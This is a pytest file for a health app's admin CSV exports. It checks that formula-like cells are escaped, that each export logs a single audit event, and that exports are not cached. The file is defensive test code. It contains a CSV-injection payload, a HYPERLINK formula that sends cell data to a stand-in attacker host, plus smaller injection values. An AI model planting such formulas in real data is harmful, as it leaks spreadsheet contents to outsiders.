"""The admin's CSV exports: every cell spreadsheet-safe, every export one audit event."""
import csv

import pytest

from healthpal.domain import audit, channels, users
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def exported(admin, url) -> list[list[str]]:
    response = admin.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(text[1:].splitlines(keepends=True)))


def column(table: list[list[str]], name: str) -> list[str]:
    index = table[0].index(name)
    return [row[index] for row in table[1:]]


def test_names_and_usernames_that_look_like_formulas_are_exported_as_text(admin, clinician):
    users.update(actor=clinician, via=channels.API, user_id=clinician.id,
                 data={"first_name": FORMULA, "last_name": "@SUM(1+1)"})
    factories.make_user("+bob", first_name="-2+3")
    table = exported(admin, "/admin/user/export/csv/")
    assert "'" + FORMULA in column(table, "First name")
    assert "'@SUM(1+1)" in column(table, "Last name")
    assert "'+bob" in column(table, "Username") and "'-2+3" in column(table, "First name")
    assert "root" in column(table, "Username")                   # ordinary cells are left as they are


def test_patient_and_audit_exports_are_safe_too(admin, clinician):
    factories.make_patient(clinician, address="-cmd")
    assert column(exported(admin, "/admin/patient/export/csv/"), "Google Place ID") == ["'-cmd"]
    factories.make_user("@carol")
    assert "'@carol" in column(exported(admin, "/admin/user/export/csv/"), "Username")
    users.update(actor=clinician, via=channels.API, user_id=clinician.id, data={"username": "+alice"})
    actors = column(exported(admin, "/admin/audit/export/csv/"), "Actor")
    assert "'+alice" in actors and "alice" in actors


@pytest.mark.parametrize(("url", "entity", "filters"), [
    ("/admin/user/export/csv/", "user", {}),
    ("/admin/patient/export/csv/?search=pat&flt0_clinician_username_is=alice&sort=0",
     "patient", {"search": "pat", "flt0_clinician_username_is": "alice", "sort": "0"}),
    ("/admin/assessment/export/csv/?flt0_type_equals=Cognitive+test", "assessment",
     {"flt0_type_equals": "Cognitive test"}),
    ("/admin/audit/export/csv/?flt0_action_equals=create", "audit", {"flt0_action_equals": "create"}),
])
def test_each_export_is_one_audit_event(admin, superuser, clinician, other_clinician, url, entity, filters):
    for owner in (clinician, clinician, other_clinician):
        factories.make_assessment(factories.make_patient(owner))
    table = exported(admin, url)
    events = audit.events_for(entity_type=entity)
    exports = [event for event in events if event.action == audit.EXPORT]
    assert len(exports) == 1
    event = exports[0]
    assert (event.actor_id, event.actor_username, event.channel) == (superuser.id, "root", "admin")
    assert event.changes["format"] == "csv"
    assert event.changes["rows"] == len(table) - 1
    for name, value in filters.items():
        assert event.changes["filters"][name] == value


def test_an_export_counts_the_rows_it_sent(admin, clinician, other_clinician):
    for owner in (clinician, clinician, other_clinician):
        factories.make_patient(owner)
    table = exported(admin, "/admin/patient/export/csv/?flt0_clinician_username_is=alice")
    event = audit.events_for(entity_type="patient")[-1]
    assert len(table) - 1 == 2 and event.changes == {
        "format": "csv", "filters": {"flt0_clinician_username_is": "alice"}, "rows": 2}


def test_exports_are_never_cached(admin):
    response = admin.get("/admin/user/export/csv/")
    assert response.headers["Cache-Control"] == "no-store"
